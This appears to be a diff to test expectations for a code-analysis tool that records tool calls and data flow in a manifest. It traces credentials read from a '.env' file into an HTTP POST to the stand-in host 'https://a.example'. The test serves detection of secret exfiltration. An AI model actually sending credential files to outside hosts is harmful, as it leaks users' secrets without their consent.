@@ -794,6 +794,7 @@ def t() -> None:
 # manifest: > compared with "k" (==)
 # manifest: > body "a" or "b"
 # manifest: read_file reads ".env" (CREDENTIALS); at most once
+# manifest: errors from read_file(".env")
 # manifest: when and how often is decided by
 # manifest: > http_request read_file(".env")
 ---
@@ -828,10 +829,8 @@ def t() -> None:
     tools.http_request(method="POST", url="https://a.example", body=x)
 # manifest: http_request connects to "https://a.example"; at most once
 # manifest: > method "POST"
-# manifest: > body ‹part of "abcdef"›
+# manifest: > body ‹part of "abcdef"› (from read_file(".env"))
 # manifest: read_file reads ".env" (CREDENTIALS); at most once
-# manifest: when and how often is decided by
-# manifest: > http_request read_file(".env")
 ---
 # the width of a field
 def t() -> None:
